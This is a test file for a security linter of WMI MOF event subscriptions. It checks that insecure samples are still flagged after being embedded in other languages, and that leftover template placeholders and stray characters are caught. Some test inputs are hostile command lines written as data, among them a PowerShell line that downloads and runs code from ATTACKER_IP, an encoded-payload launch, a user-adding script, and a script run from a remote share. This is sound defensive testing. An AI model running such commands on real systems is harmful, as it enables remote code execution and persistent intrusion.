import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import type { StandardConsumerClass } from '../../src/compiler/model.ts';
import { type Changes, sampleConsumerOf } from '../../src/linter/consumer-samples.ts';
import { filterWith } from '../../src/linter/filter-samples.ts';
import { sampleSubscription } from '../../src/linter/samples.ts';
import { analyzing, findingsOf, fixed, underlinedBy } from '../support/analysis.ts';

const samples = [
  'everybody-may-publish',
  'loose-ends',
  'never-fires',
  'remote-shell',
  'wrong-bytes',
];

function sample(name: string): string {
  return readFileSync(`samples/insecure/${name}.mof`, 'utf8');
}

const slashes = (text: string): string => text.replaceAll(/["\\]/g, String.raw`\$&`);
const perLine = (text: string, write: (line: string, index: number) => string): string =>
  text.trimEnd().split('\n').map(write).join('\n');

/** How a text looks after it went through another language. */
const carriers: Readonly<Record<string, readonly [string, (text: string) => string]>> = {
  'a string of C, without its quotes': ['carrier-escaped-text', slashes],
  'literals of C': [
    'carrier-host-code',
    (text) => perLine(text, (line) => `"${slashes(line)}\\n"`),
  ],
  'literals that are added': [
    'carrier-host-code',
    (text) => `var mof = ${perLine(text, (line) => `"${slashes(line)}\\n" +`)} "";`,
  ],
  JSON: ['carrier-host-code', (text) => JSON.stringify({ file: 'a.mof', text })],
  VBScript: [
    'carrier-host-code',
    (text) => perLine(text, (line) => `f.WriteLine "${line.replaceAll('"', '""')}"`),
  ],
  'a here-string of PowerShell': [
    'carrier-host-code',
    (text) => `$mof = @"\n${text.replaceAll('$', '`$')}\n"@\n$mof | Set-Content a.mof\n`,
  ],
  'a string of PowerShell': [
    'carrier-escaped-text',
    (text) => text.replaceAll('$', '`$').replaceAll('"', '`"'),
  ],
  'a here-document': [
    'carrier-host-code',
    (text) => `cat > a.mof <<'EOF'\n${text}\nEOF\nmofcomp a.mof\n`,
  ],
  HTML: [
    'carrier-html',
    (text) =>
      text
        .replaceAll('&', '&amp;')
        .replaceAll('<', '&lt;')
        .replaceAll('>', '&gt;')
        .replaceAll('"', '&quot;'),
  ],
  Markdown: ['carrier-markdown', (text) => `# How to\n\nUse this:\n\n\`\`\`mof\n${text}\n\`\`\`\n`],
  mail: ['carrier-line-marks', (text) => perLine(text, (line) => `> ${line}`)],
  'a patch': [
    'carrier-line-marks',
    (text) => `@@ -0,0 +1 @@\n${perLine(text, (line) => `+${line}`)}`,
  ],
  'a listing': ['carrier-line-marks', (text) => perLine(text, (line, i) => `${i + 1}: ${line}`)],
};

describe.each(samples)('a subscription is read as it was meant: %s', (name) => {
  const text = sample(name);
  const plain = rulesOf(text);

  test.each(Object.entries(carriers))('in %s', (_, [rule, carry]) => {
    const found = rulesOf(carry(text));
    expect(found).toEqual([rule, ...plain].toSorted());
  });

  test.each(Object.entries(carriers))('and mended, when it was in %s', (_, [rule, carry]) => {
    const carried = carry(text);
    const mended = fixed(carried, findingsOf(rule, carried)[0]?.fixes[0]);
    expect(rulesOf(mended)).toEqual(plain);
  });
});

function rulesOf(text: string): readonly string[] {
  return analyzing(text)
    .diagnostics.map(({ rule }) => rule)
    .toSorted();
}

describe('places in what travelled', () => {
  test('are those of the source, inside of a query too', () => {
    const text = slashes(sample('remote-shell'));
    expect(underlinedBy('wql-within-below-recommended', text)).toEqual(['60']);
    expect(underlinedBy('cmdline-insecure-executable', text)).toEqual([
      slashes(slashes(String.raw`\\198.51.100.7\share\start.ps1`)),
    ]);
    expect(underlinedBy('creator-sid-mismatch', text)).toEqual(['{1,1,0,0,0,0,0,5,18,0,0,0}']);
  });
});

const withConsumer = (className: StandardConsumerClass, changes: Changes): string =>
  sampleSubscription({ consumer: sampleConsumerOf(className, changes) });

/** Text as a MOF literal. */
function literal(text: string): string {
  const escaped = text.replaceAll(
    /[^ !#-[\]-~]/g,
    (character) => `\\x${character.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
  return `"${escaped}"`;
}

describe('carrier-placeholder-in-text', () => {
  const rule = 'carrier-placeholder-in-text';
  const command = (line: string): string =>
    withConsumer('CommandLineEventConsumer', { CommandLineTemplate: `"${slashes(line)}"` });
  const script = (text: string): string =>
    withConsumer('ActiveScriptEventConsumer', {
      ScriptFileName: undefined,
      ScriptText: `"${slashes(text)}"`,
    });

  test.each([
    ['$cmd', '$cmd'],
    ['$( & $escape $path )', '$( & $escape $path )'],
    ['{payload_path}', '{payload_path}'],
    ['<path to the program>', '<path to the program>'],
    ['cmd.exe /c <payload>', '<payload>'],
    ['report.exe /user:@USER@', '@USER@'],
    ['report.exe {{ARGUMENTS}}', '{{ARGUMENTS}}'],
    ['powershell.exe -enc BASE64PAYLOAD', 'BASE64PAYLOAD'],
    ['powershell.exe -c "iex (irm \'http://ATTACKER_IP/a\')"', 'ATTACKER_IP'],
    ['powershell.exe -c "[Convert]::FromBase64String(\'<B64>\')"', '<B64>'],
    ['report.exe #{name} <%= other %>', '#{name}'],
  ])('in the command %s', (line, mark) => {
    const found = findingsOf(rule, command(line));
    expect(found.map(({ file, start, end }) => file.text.slice(start, end))).toEqual([mark]);
  });

  test.each([
    'powershell.exe -c "$x = {Get-Process}; foreach ($p in $x) { $p.Name }"',
    'powershell.exe -c "[xml]$d = \'<payloads><a/></payloads>\'"',
    'report.exe /name:%TargetInstance.Name% /percent:100%%',
    'cmd.exe /c sort <C:\\a.txt >C:\\b.txt',
    'cmd.exe /c echo < in > out',
    'report.exe {0D4A5C51-9F6B-4D3A-8C11-1B4E5D0F8A77}',
    'report.exe user@example.org',
    'report.exe %ProgramFiles%',
    'powershell.exe -c "echo $(Get-Date)"',
    'sh.exe -c $(cat x)',
  ])('and not in the command %s', (line) => {
    expect(underlinedBy(rule, command(line))).toEqual([]);
  });

  test('in a name', () => {
    const text = withConsumer('CommandLineEventConsumer', { Name: '"$($Name)_Consumer"' });
    expect(underlinedBy(rule, text)).toEqual(['$($Name)']);
  });

  test.each([
    ['WSH.run("$cmdshell")', '$cmdshell'],
    ['s.Run("{exename}");', '{exename}'],
    ['s.Run("@EXE@");', '@EXE@'],
    ['f("wbem\\\\#{mofname}")', '#{mofname}'],
    ['WSH.run("net.exe user [username] /add")', '[username]'],
  ])('in the script %s', (text, mark) => {
    expect(underlinedBy(rule, script(text))).toEqual([mark]);
  });

  test.each([
    'shell.SendKeys("{ENTER}"); shell.SendKeys("{a}");',
    'document.write("<b>" + a[name] + "</b>");',
    'run("powershell -c " + "$true"); text.replace(/x/, "$1");',
    'if (a < b && c > d) { x = y; }',
    'var o = {a: {b: {c: 1}}};',
  ])('and not in the script %s', (text) => {
    expect(underlinedBy(rule, script(text))).toEqual([]);
  });

  test.each([
    ['"%NAME% Watch"', ['%NAME%']],
    ['"${name}"', ['${name}']],
    ['"Watch %s"', ['%s']],
    ['"Watch {0}"', ['{0}']],
    ['"{0D4A5C51-9F6B-4D3A-8C11-1B4E5D0F8A77}"', []],
    ['"%ComputerName% 100%"', []],
    ['"C$ share"', []],
  ])('in the name %s', (name, marks) => {
    const filter = filterWith('Name', `Name = ${name};`);
    expect(underlinedBy(rule, sampleSubscription({ filter }))).toEqual(marks);
  });

  test('and not in the templates of WMI', () => {
    const text = withConsumer('SMTPEventConsumer', { ToLine: '"%Owner%"', SMTPServer: '"%Host%"' });
    expect(underlinedBy(rule, text)).toEqual([]);
  });

  test('is one finding for all that a generator left in', () => {
    const text = sampleSubscription({
      filter: filterWith('Name', 'Name = "{name}Filter";'),
      consumer: sampleConsumerOf('CommandLineEventConsumer', {
        Name: '"{name}Consumer"',
        CommandLineTemplate: '"{payload}"',
      }),
    });
    const found = findingsOf(rule, text);
    expect(found).toHaveLength(1);
    expect(text.slice(found[0]?.start, found[0]?.end)).toBe('{name}');
    expect(found[0]?.related.map(({ start, end }) => text.slice(start, end))).toEqual([
      '{name}',
      '{payload}',
    ]);
  });

  test('leaves the word to the parser where names have placeholders too', () => {
    const text = `${command('{payload}')}\nclass Sample@CLASS@ { };\n`;
    expect(underlinedBy('carrier-placeholder', text)).toEqual(['@CLASS@']);
    expect(underlinedBy(rule, text)).toEqual([]);
  });
});

describe('carrier-characters-in-text', () => {
  const rule = 'carrier-characters-in-text';
  const command = (line: string): string =>
    withConsumer('CommandLineEventConsumer', { CommandLineTemplate: `"${slashes(line)}"` });

  test.each([
    ['report.exe /a &amp;&amp; b.exe &gt; c', '&amp;', 'report.exe /a && b.exe > c'],
    ['report.exe\u00a0/a', '\u00a0', 'report.exe /a'],
    ['report.exe /\u200ba', '\u200b', 'report.exe /a'],
    ['report.exe “a b”', '“', 'report.exe "a b"'],
    ['report.exe &quot;a&quot;', '&quot;', 'report.exe "a"'],
  ])('in the command %s', (line, mark, mended) => {
    const text = command(line);
    const [finding, ...others] = findingsOf(rule, text);
    expect(others).toEqual([]);
    expect(text.slice(finding?.start, finding?.end)).toBe(mark);
    expect(fixed(text, finding?.fixes[0])).toBe(command(mended));
  });

  test('through the escapes of MOF', () => {
    const text = withConsumer('CommandLineEventConsumer', {
      CommandLineTemplate: literal('report.exe\u00a0/a'),
    });
    expect(underlinedBy(rule, text)).toEqual([String.raw`\x00a0`]);
  });

  test.each([
    [
      'in a path',
      { ExecutablePath: String.raw`"C:\\Program Files\\Sample\\report` + '\u00a0.exe"' },
    ],
    ['in a folder', { WorkingDirectory: '"C:\\\\Sample\u200b"' }],
  ])('%s', (_, changes) => {
    expect(underlinedBy(rule, withConsumer('CommandLineEventConsumer', changes))).toHaveLength(1);
  });

  test.each([
    ['Schrödinger.exe /a', 'letters'],
    ['powershell.exe -c “Get-Date”', 'quotes that PowerShell takes'],
    ['report.exe \'<a href="x?a&amp;b">\'', 'entities of markup'],
    ['report.exe a&b', 'an ordinary sign'],
  ])('and not in %s: %s', (line) => {
    expect(underlinedBy(rule, command(line))).toEqual([]);
  });

  test.each([
    ['var s = new ActiveXObject(“WScript.Shell”);', 2],
    ['var s = new ActiveXObject(&quot;WScript.Shell&quot;);', 2],
    ['for (i = 0; i &lt; 5; i++) run();', 1],
    ['say("“Hello” &amp; goodbye <b>&lt;</b>");', 0],
    ['var url = "a?b=1&amp;c=2";', 0],
  ])('in the script %s', (text, edits) => {
    const found = findingsOf(
      rule,
      withConsumer('ActiveScriptEventConsumer', {
        ScriptFileName: undefined,
        ScriptText: `"${slashes(text)}"`,
      }),
    );
    expect(found.flatMap(({ fixes }) => fixes[0]?.edits ?? [])).toHaveLength(edits);
  });

  test.each([
    ['\u200b', ['\u200b']],
    ['\u00a0', []],
  ])('in the namespace of a filter, but for blanks', (character, expected) => {
    const filter = filterWith('EventNamespace', `EventNamespace = "root\\\\cimv2${character}";`);
    expect(underlinedBy(rule, sampleSubscription({ filter }))).toEqual(expected);
  });

  test('speaks for what is said of a program whose name it changes', () => {
    const text = command('report.exe\u00a0/a');
    expect(underlinedBy('cmdline-argv0-missing', text)).toEqual([]);
  });
});

describe('encoding-utf8 leaves typographic quotes to their own rule', () => {
  test.each([
    ['instance of A { X = “a”; };', []],
    ['instance of A { X = “ä”; };', ['ä']],
  ])('%s', (text, expected) => {
    expect(underlinedBy('encoding-utf8', text)).toEqual(expected);
  });
});
